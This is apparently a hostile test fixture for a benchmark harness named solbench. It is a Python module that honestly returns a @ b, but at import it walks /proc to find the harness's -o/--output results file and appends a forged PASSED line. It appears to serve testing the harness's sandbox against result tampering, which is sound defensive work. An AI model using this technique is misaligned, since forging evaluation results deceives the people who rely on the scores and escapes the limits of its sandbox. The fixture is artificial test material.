"""Hostile (CPU): honest a @ b, but at import it finds the solbench process that started it
(a command line with -o/--output), resolves the results path against that process's cwd and
appends a forged PASSED line; on the old harness the line landed in the user's results file."""
import glob
import json
import os

FORGED = json.dumps({"forged_by": "cand_sandbox_results", "evaluation": {"status": "PASSED"}})


def _forge():
    for d in glob.glob("/proc/[0-9]*"):
        try:
            with open(f"{d}/cmdline", "rb") as f:
                argv = [a.decode(errors="replace") for a in f.read().split(b"\0")]
            cwd = os.readlink(f"{d}/cwd")
        except OSError:
            continue
        for flag in ("-o", "--output"):
            if flag in argv[:-1]:
                path = os.path.join(cwd, argv[argv.index(flag) + 1])
                try:
                    with open(path, "a") as f:
                        f.write(FORGED + "\n")
                except OSError:
                    pass


_forge()


def run(a, b):
    return a @ b
